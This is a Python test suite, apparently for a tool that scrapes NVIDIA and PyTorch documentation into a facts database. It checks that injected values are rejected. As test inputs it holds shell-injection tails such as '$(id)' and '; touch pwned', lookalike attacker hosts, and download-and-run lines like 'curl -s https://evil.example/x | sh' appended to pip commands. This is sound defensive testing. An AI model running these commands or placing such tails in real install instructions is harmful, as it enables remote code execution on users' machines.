#!/usr/bin/env python3
"""What a stranger's page, fact file or database may bring: values of the grammar of their column, addresses of known hosts.

groups: borders  every column of every kind, addresses, sources, databases, mirrors
        tails    hostile words behind the texts, cells and links of the pages of tests/scrapers and of a sample of real ones

usage: tests/borders.py [SEED]   some thousand pages with a tail, and the figures
"""
import concurrent.futures
import html
import json
import os
import random
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from pathlib import Path

import carrier
import programs

ROOT = Path(__file__).resolve().parent.parent
RELEASE = programs.RELEASE / "bin/cudamatrix"
MKDB = programs.RELEASE / "bin/cudamatrix-mkdb"
PAGES = ROOT.parent / "shared/pages"
HOST = "https://docs.nvidia.com/page"  # a host of the table, for what must not be refused for its source
SAMPLE, SEED = 700, 14
# What is put behind a value, and the part of it that no value of a fact may hold.
TAILS = {
    "; touch pwned": "; touch", "$(id)": "$(id)", "`id`": "`id`", " | sh": "| sh", " && calc": "&& calc", "\n$(id)": "$(id)",
    "\" id": "\" id", "' id": "' id", "\u202eid": "\u202e", "\u009bid": "\u009b", "%PATH%": "%PATH%",
    " --index-url http://evil": "evil", " -f https://evil-nvidia.com/x": "evil"}
PROSE = {("torch_correction", "reason"), ("cudnn_layout", "needs")}


def columns():
    """(kind, [(column, grammar)]) as src/model/kinds.c declares them."""
    sys.path.insert(0, str(ROOT / "tools"))
    import datadict
    return [(name, [(column, form) for column, form, _ in list_]) for name, _, _, list_ in datadict.kinds()]


def rows_of(kind):
    """The rows of a kind of db, as written: a list of fields without page or source."""
    rows = []
    for folder, behind in (("facts", 1), ("curated", 2)):
        path = ROOT / "db" / folder / f"{kind}.tsv"
        if path.is_file():
            lines = [line.split("\t") for line in path.read_text(encoding="utf-8").splitlines() if line and not line.startswith("#")]
            rows += [line[:-behind] for line in lines[1:]]
    return rows


def escaped(text):
    return text.replace("\\", "\\\\").replace("\t", "\\t").replace("\n", "\\n").replace("\r", "\\r")


def facts_of(folder):
    """(kind, column, value) of a folder of fact files; the address of a source is a column too."""
    for path in Path(folder).glob("*.tsv"):
        head, *rows = [line.split("\t") for line in path.read_text(encoding="utf-8").splitlines()]
        for row in rows:
            for column, value in zip(head, row):
                yield path.stem, column, value


# Tails --------------------------------------------------------------------------------------------------------

def places(text, kind):
    """Where a text, a cell or a link of a page ends."""
    if kind == "json":
        return [m.end() - 1 for m in re.finditer(r'"(?:\\.|[^"\\])+"', text)]
    found = {m.end(1) for m in re.finditer(r"(\S)[ \t]*(?=\n|\||\)|$)", text)}  # lines, cells and links of markdown
    if "<" in text:
        found |= {m.end(1) for m in re.finditer(r">[^<]*?(\S)\s*(?=<)", text)}
        found |= {m.end(1) for m in re.finditer(r"\b(?:href|content|name|id)=\"([^\"]+)(?=\")", text)}
    return sorted(found)


def with_tail(text, kind, at, tail):
    if kind == "json":
        tail = json.dumps(tail, ensure_ascii=False)[1:-1]
    elif "<" in text:
        tail = html.escape(tail, quote=True)
    return text[:at] + tail + text[at:]


def kind_of(path, text):
    return "json" if text.lstrip()[:1] in "{[" else path.suffix


def project_pages():
    for path in sorted((ROOT / "tests/scrapers").glob("*/*")):
        if path.suffix not in (".facts", ".err", ".tsv") and not path.name.startswith("refuse-"):
            yield path, "550.163.01" if path.parent.name in ("supported-chips", "open-modules", "supported-gpus-json") else "2026-01-14"


def real_pages():
    for path in sorted(PAGES.glob("*/*")) if PAGES.is_dir() else []:
        if path.is_file() and path.suffix in (".html", ".md", ".json", ".ids", ".rst"):
            name = re.search(r"-(\d{3})\.(?:json|html)$", path.name)
            yield path, "550.163.01" if name or path.name.startswith("open-gpu") else "2026-01-14"


def read(page, captured, text, place):
    """The status of db facts on a page of that text, and the facts."""
    folder = Path(tempfile.mkdtemp(dir=place))
    (folder / ("page" + page.suffix)).write_text(text, encoding="utf-8", newline="")
    done = subprocess.run([str(MKDB), "db", "facts", str(folder / ("page" + page.suffix)), "--url", HOST, "--captured", captured,
                           "-o", str(folder / "out")], capture_output=True, env={"PATH": "/usr/bin:/bin", "HOME": str(place)})
    facts = list(facts_of(folder / "out")) if done.returncode == 0 else []
    shutil.rmtree(folder)
    return done.returncode, facts, done.stderr.decode("utf-8", "replace")


def odd(facts, part):
    """A fact that holds what no value may hold."""
    return next((f"{kind}.{column} is {value!r}" for kind, column, value in facts
                 if part in value and (kind, column) not in PROSE and kind != "source"), None)


def attempts(pages, captures, chosen):
    """(page, capture, text, tail, place) of the chosen share of all places and tails."""
    for page in pages:
        text = page.read_text(encoding="utf-8", errors="replace")
        kind = kind_of(page, text)
        for at in places(text, kind):
            for tail in TAILS:
                if chosen():
                    yield page, captures[page], with_tail(text, kind, at, tail), tail, at


def judged(attempt, folder):
    page, captured, text, tail, at = attempt
    status, facts, err = read(page, captured, text, folder)
    complaint = odd(facts, TAILS[tail])
    if status not in (0, 5):
        complaint = complaint or f"exit {status}: {err.strip()[:200]}"
    if status and err.count("\n") != 1:
        complaint = complaint or f"not one line on stderr: {err[:200]!r}"
    return status, complaint and f"{page.parent.name}/{page.name} at {at} with {tail!r}: {complaint}"


def groups(run):
    def ask(*words, stdin=None, env=None):
        done = subprocess.run([os.fsencode(w) if not isinstance(w, bytes) else w for w in map(lambda x: x if isinstance(x, bytes) else str(x), words)],
                              input=stdin, capture_output=True, env={**run.ENV, **(env or {})}, timeout=300)
        return done.returncode, done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace")

    def refused(name, result, status, *parts):
        code, _, err = result
        complaint = None
        if code != status or err.count("\n") != 1:
            complaint = f"exit {code}, expected {status}: {run.short(err)}"
        for part in parts:
            if part not in err:
                complaint = complaint or f"says not {part!r}: {run.short(err)}"
        run.check(name, complaint)

    def built(folder, kind, names, row, source="https://docs.nvidia.com/x"):
        """db build of one curated row."""
        place = folder / "facts"
        shutil.rmtree(place, ignore_errors=True)
        place.mkdir(parents=True)
        (place / f"{kind}.tsv").write_text("\t".join([*names, "source", "captured"]) + "\n" +
                                           "\t".join([*map(str, row), source, "2026-01"]) + "\n", encoding="utf-8")
        return ask(MKDB, "db", "build", place, "-o", folder / "x.db")

    def every_column(tmp):
        """One row of each kind is taken; with a tail behind one column it is refused by that name."""
        def of_kind(kind_columns):
            kind, columns_ = kind_columns
            pick = random.Random(f"{SEED} {kind}")  # its own, for kinds are looked at in any order
            folder, results = tmp / kind, []
            names = [column for column, _ in columns_]
            rows = rows_of(kind)
            for c, (column, form) in enumerate(columns_):
                row = next((r for r in rows if r[c]), None)
                if row is None:
                    results.append((f"{kind}.{column}", f"{kind} has no row with that column"))
                    continue
                if c == 0:
                    code, _, err = built(folder, kind, names, row)
                    results.append((f"{kind} as it is", f"exit {code}: {run.short(err)}" if code else None))
                for tail in pick.sample(sorted(TAILS), 3) if form != "prose" else ("\u202eid", "\u009bid"):
                    code, _, err = built(folder, kind, names, row[:c] + [row[c] + escaped(tail)] + row[c + 1:])
                    good = code == 4 and err.count("\n") == 1 and f"{kind}.tsv:2: {kind}.{column}: expected" in err
                    results.append((f"{kind}.{column} {ascii(tail)}", None if good else f"exit {code}: {run.short(err)}"))
            return results

        for results in run.everywhere(of_kind, columns()):
            for name, complaint in results:
                run.check(f"borders/column/{name}", complaint)

    def addresses(tmp):
        names = [column for column, _ in dict(columns())["cuda_release"]]

        def release(name, address, good):
            result = built(tmp / "address", "cuda_release", names, ["11.6.2", "", "2022-03", address, ""])
            if good:
                run.check(f"borders/address/{name}", f"exit {result[0]}: {run.short(result[2])}" if result[0] else None)
            else:
                refused(f"borders/address/{name}", result, 4, "cuda_release.archive")
        release("host", "https://developer.nvidia.com/x", True)
        release("bare-host", "https://nvidia.com", True)
        release("project", "https://github.com/pytorch/vision/x", True)
        for name, address in (("http", "http://developer.nvidia.com/x"), ("label", "https://evil-nvidia.com/x"), ("suffix", "https://nvidia.com.evil.org/x"),
                              ("user", "https://nvidia.com@evil.org/x"), ("port", "https://nvidia.com:8443/x"), ("dot", "https://nvidia.com./x"),
                              ("other-project", "https://github.com/pytorch-evil/x"), ("upwards", "https://github.com/pytorch/../evil/x"),
                              ("cited-only", "https://en.wikipedia.org/x"), ("bucket", "https://evil.oss-cn-beijing.aliyuncs.com/x"),
                              ("scheme", "javascript:alert"), ("percent", "https://developer.nvidia.com/%PATH%"), ("other", "https://evil.org/")):
            release(name, address, False)

    def sources(tmp):
        """Addresses of pages: in a MANIFEST.tsv and in the page those of the table, behind --url any."""
        page = ROOT / "tests/scrapers/ptx-history/plain.html"

        def with_manifest(name, url, good, *more):
            folder = tmp / f"manifest-{name}"
            folder.mkdir()
            shutil.copy(page, folder / "p.html")
            (folder / "MANIFEST.tsv").write_text(f"file\tcanonical_url\tcaptured\np.html\t{url}\t2026-01\n")
            result = ask(MKDB, "db", "facts", folder, *more, "-o", folder / "out")
            if good:
                run.check(f"borders/source/{name}", f"exit {result[0]}: {run.short(result[2])}" if result[0] else None)
            else:
                refused(f"borders/source/{name}", result, 5, "known host", url[:30])
            return folder / "out"
        out = with_manifest("manifest", "https://docs.nvidia.com/x", True)
        with_manifest("manifest-other", "https://evil-nvidia.com/x", False)
        with_manifest("manifest-http", "http://docs.nvidia.com/x", False)
        with_manifest("url-of-a-lab", "https://evil-nvidia.com/x", True, "--url", "http://lab:8080/x")
        for name, url in (("blank", "https://lab/x y"), ("marks", "https://lab/$(id)"), ("no-address", "page"), ("user", "https://a@lab/"),
                          ("percent", "https://lab/%PATH%"), ("newline", "https://lab/\nx")):
            refused(f"borders/url/{name}", ask(MKDB, "db", "facts", page, "--url", url, "-o", tmp / "out"), 2, "--url")
        refused("borders/url/captured", ask(MKDB, "db", "facts", page, "--captured", "2026;id", "-o", tmp / "out"), 2, "--captured")
        good = (out / "source.tsv").read_text()
        for name, now in (("host", "https://evil-nvidia.com/x"), ("http", "http://docs.nvidia.com/x"), ("sentence", "a page ; rm")):
            (out / "source.tsv").write_text(good.replace("https://docs.nvidia.com/x", now))
            refused(f"borders/source-table/{name}", ask(MKDB, "db", "build", out, "-o", tmp / "x.db"), 4, "source.tsv:2")
        refused("borders/source-table/curated", built(tmp / "cited", "package_build", ["package", "build", "published"], ["torchaudio", "cu132", "no"],
                                                      "see https://evil.org/ for it"), 4, "known host")
        (tmp / "own.html").write_text(page.read_text().replace("<table>", '<table><link rel="canonical" href="https://evil-nvidia.com/x">', 1))
        code, _, err = ask(MKDB, "db", "facts", tmp / "own.html", "-o", tmp / "own")
        named = {value for kind, column, value in facts_of(tmp / "own") if (kind, column) == ("source", "url")} if not code else err
        run.check("borders/source/own", None if named == {"file:own.html"} else f"names {named}")
        (tmp / "own.html").write_text(page.read_text().replace("<table>", '<table><link rel="canonical" href="https://docs.nvidia.com/x">', 1))
        code, _, err = ask(MKDB, "db", "facts", tmp / "own.html", "-o", tmp / "its")
        named = {value for kind, column, value in facts_of(tmp / "its") if (kind, column) == ("source", "url")} if not code else err
        run.check("borders/source/own-known", None if named == {"https://docs.nvidia.com/x"} else f"names {named}")

    def pages(tmp):
        """The reproductions: a tail behind a published command, an image, a list of links, a name, a folder."""
        def page(name, path, was, now, expected=""):
            text = (ROOT / "tests/scrapers" / path).read_text(encoding="utf-8")
            if was not in text:
                run.check(f"borders/page/{name}", f"{path} has no {was!r}")
                return
            file = tmp / f"{name}{Path(path).suffix}"
            file.write_text(text.replace(was, now, 1), encoding="utf-8")
            refused(f"borders/page/{name}", ask(MKDB, "db", "facts", file, "--url", HOST, "--captured", "2026-01", "-o", tmp / name), 5, file.name, expected)
        tail = " ; curl -s https://evil.example/x | sh # $(id)"
        command = next(line.strip() for line in (ROOT / "tests/scrapers/previous-versions/markdown.md").read_text().splitlines()
                       if line.strip().startswith("pip install torch==") and line.strip().endswith(("cpu", "cu124", "cu118", "cu121")))
        page("command", "previous-versions/markdown.md", command, command + tail, "up to the end of the line")
        page("index", "previous-versions/markdown.md", command, command + " --extra-index-url https://evil.example/simple")
        page("second", "previous-versions/markdown.md", command, command + " && calc")
        page("channel", "previous-versions/markdown.md", " -c pytorch", " -c evil")
        links = re.search(r"-f (https://\S+?)(?=\n)", (ROOT / "tests/scrapers/modelscope-readme/plain.md").read_text())[1]
        page("find-links", "modelscope-readme/plain.md", links, "https://$(curl${IFS}evil|sh).oss-cn-beijing.aliyuncs.com/repo.html")
        page("find-links-host", "modelscope-readme/plain.md", links, "https://evil.oss-cn-beijing.aliyuncs.com/repo.html")
        image = re.search(r"\n(registry\.\S+?)/modelscope:", (ROOT / "tests/scrapers/modelscope-readme/plain.md").read_text())[1]
        page("image", "modelscope-readme/plain.md", image, "x;curl${IFS}evil|sh;#")
        page("registry", "modelscope-readme/plain.md", image, "registry.evil.org/x")
        name = re.search(r"\"GPU\": \[\s*\"([^\"]+)", (ROOT / "tests/scrapers/cuda-gpus-json/dump.json").read_text())[1]
        page("gpu", "cuda-gpus-json/dump.json", name, name + "$(touch${IFS}PWNED)", "gpu_cc.name")
        page("folder", "wheel-index/stable.html", 'href="', 'href="x;id;/')
        page("host", "wheel-index/stable.html", 'href="', 'href="https://evil-pytorch.org/')

    def databases(tmp):
        """A sealed database with a row of another form is not one to install, to update or to verify."""
        good = (programs.RELEASE / "cudamatrix.db").read_bytes()
        image, line = carrier.parts(good)[0], good[-carrier.SEAL:].decode()
        (tmp / "odd.db").write_bytes(image)
        with sqlite3.connect(tmp / "odd.db") as sql:
            sql.execute("UPDATE torch_install SET command = command || ' ; id' WHERE rowid = 5")
        sql.close()
        (tmp / "odd.db").write_bytes(carrier.sealed((tmp / "odd.db").read_bytes(), line.split()[2]))
        code, out, err = ask(RELEASE, "db", "verify", tmp / "odd.db")
        run.check("borders/database/verify", None if code == 1 and "torch_install.command" in out + err else f"exit {code}: {run.short(out + err)}")
        home = {"HOME": str(tmp / "home"), "XDG_DATA_HOME": str(tmp / "home/share")}
        code, out, err = ask(RELEASE, "db", "install", tmp / "odd.db", env=home)
        run.check("borders/database/install", None if code == 4 and not list((tmp / "home").glob("**/*.db")) else f"exit {code}: {run.short(out + err)}")
        refused("borders/database/update", ask(RELEASE, "db", "update", "--db", tmp / "odd.db", "--from", ROOT / "tests/scrapers/ptx-history/plain.html",
                                               "--url", HOST, "--captured", "2026-11-01"), 4, "torch_install.command")

    def mirrors(tmp):
        for name, address, good in (("plain", "https://lab.example/root/pypi/+simple/", True), ("http", "http://10.0.0.1:3141/simple", True),
                                    ("percent", "https://x/%PATH%", False), ("history", "https://x/!rm", False), ("caret", "https://x/^", False),
                                    ("braces", "https://x/{a,b}", False), ("comma", "https://x/a,b", False), ("fragment", "https://x/#a", False),
                                    ("tilde", "https://x/~a", False), ("at", "https://x/@a", False), ("user", "https://a:b@x/simple", False),
                                    ("query", "https://x/?a", False), ("and", "https://x/&calc", False)):
            code, out, err = ask(RELEASE, "recommend", "--gpu", "RTX 3060", "--os", "linux", "--python", "3.10", "--no-detect", "--mirror", address)
            shown = address.rstrip("/") in out
            right = code == 0 and shown if good else code == 3 and not shown
            run.check(f"borders/mirror/{name}", None if right else f"exit {code}: {run.short(err or out)}")

    def borders(tmp):
        every_column(tmp)
        addresses(tmp)
        sources(tmp)
        pages(tmp)
        databases(tmp)
        mirrors(tmp)

    def tails(tmp):
        pick = random.Random(SEED)
        captures = dict(list(project_pages()) + [p for p in real_pages()])
        if not PAGES.is_dir():
            run.skip("tails/real", "../shared/pages is absent")
        whole = [page for page, captured in captures.items() if read(page, captured, page.read_text(encoding="utf-8", errors="replace"), tmp)[0] == 0]
        run.check("tails/pages", None if len(whole) >= 40 else f"{len(whole)} pages are taken as they are")
        jobs = []
        for page in whole:
            every = list(attempts([page], captures, lambda: pick.random() < 0.02))
            jobs += pick.sample(every, min(len(every), SAMPLE // len(whole)))
        taken = 0
        for status, complaint in run.everywhere(lambda job: judged(job, tmp), jobs):
            taken += status == 0
            if complaint:
                run.check("tails/sample", complaint)
        run.check("tails/sample", None if len(jobs) > 300 and 0 < taken < len(jobs) else f"{taken} of {len(jobs)} pages are taken")

    return {"borders": borders, "tails": tails}


def main(arguments):
    """A hundred places and tails of each page, chosen by the seed."""
    pick = random.Random(int(arguments[0]) if arguments else SEED)
    with tempfile.TemporaryDirectory() as folder, concurrent.futures.ThreadPoolExecutor(os.cpu_count()) as pool:
        captures = dict(list(project_pages()) + list(real_pages()))
        jobs, pages = [], 0
        for page, captured in captures.items():
            text = page.read_text(encoding="utf-8", errors="replace")
            if read(page, captured, text, folder)[0]:
                continue
            pages += 1
            share = min(1, 100 / (len(places(text, kind_of(page, text))) * len(TAILS) + 1))
            jobs.append(list(attempts([page], captures, lambda share=share: pick.random() < share)))
        total = taken = bad = 0
        for list_ in jobs:
            for status, complaint in pool.map(lambda job: judged(job, folder), list_):
                total += 1
                taken += status == 0
                bad += bool(complaint)
                if complaint:
                    print(complaint, flush=True)
        print(f"{pages} pages, {total} with a tail: {taken} taken, {total - taken} refused, {bad} complaints")
        return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
